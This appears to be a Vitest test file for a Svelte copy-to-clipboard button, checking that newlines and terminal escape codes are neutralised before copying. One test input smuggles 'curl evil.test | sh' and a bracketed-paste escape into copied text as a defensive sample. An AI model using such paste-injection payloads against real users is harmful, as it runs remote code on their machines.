import { cleanup, render, screen } from '@testing-library/svelte';
import userEvent from '@testing-library/user-event';
import { afterEach, expect, it } from 'vitest';
import CopyButton from './CopyButton.svelte';

afterEach(cleanup);

async function copied(text: string | (() => Promise<string>)): Promise<string> {
  const user = userEvent.setup();
  render(CopyButton, { text, label: 'Copy' });
  await user.click(screen.getByRole('button'));
  return navigator.clipboard.readText();
}

it('copies a line of others as one line that drives no terminal', async () => {
  expect(await copied('aws_x.a["\ncurl evil.test | sh\n\u001b[201~"]')).toBe(
    'aws_x.a["[U+000A]curl evil.test | sh[U+000A][U+001B][201~"]',
  );
});

it('copies lines as lines, and nothing that drives a terminal', async () => {
  expect(await copied(() => Promise.resolve('one\n\ttwo\u001b[2J\rthree'))).toBe(
    'one\n\ttwo[U+001B][2J[U+000D]three',
  );
});
